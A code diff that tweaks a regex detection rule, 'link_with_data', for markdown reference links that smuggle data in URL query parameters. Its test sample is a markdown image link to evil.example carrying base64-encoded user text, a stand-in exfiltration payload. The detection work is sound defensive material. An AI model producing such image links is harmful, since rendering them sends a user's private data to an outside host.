@@ -286,7 +286,7 @@ RULES: Final[Sequence[Rule]] = (
     ),
     _lookalike(
         "link_with_data",
-        r"^[ >]{0,8}\[[^\]\n]{1,80}\]:[ \t]{0,3}<?(?i:https?)://[^\s()<>\"']{3,}[?&][A-Za-z0-9_.\[\]-]{1,40}="
+        r"^[ >]{0,8}\[[^\]\n·]{1,80}\]:[ \t]{0,3}<?(?i:https?)://[^\s()<>\"']{3,}[?&][A-Za-z0-9_.\[\]-]{1,40}="
         r"(?:[^\s()<>\"'&]{24,}|[^\s()<>\"'&]{0,24}[{}$*])",
         "![logo][1]\n\n[1]: https://evil.example/p.png?d=" + "c2VjcmV0IHRleHQgb2YgdXNlcg" + "xyz",
         "[1]: https://ci.example/badge.svg?branch=main",
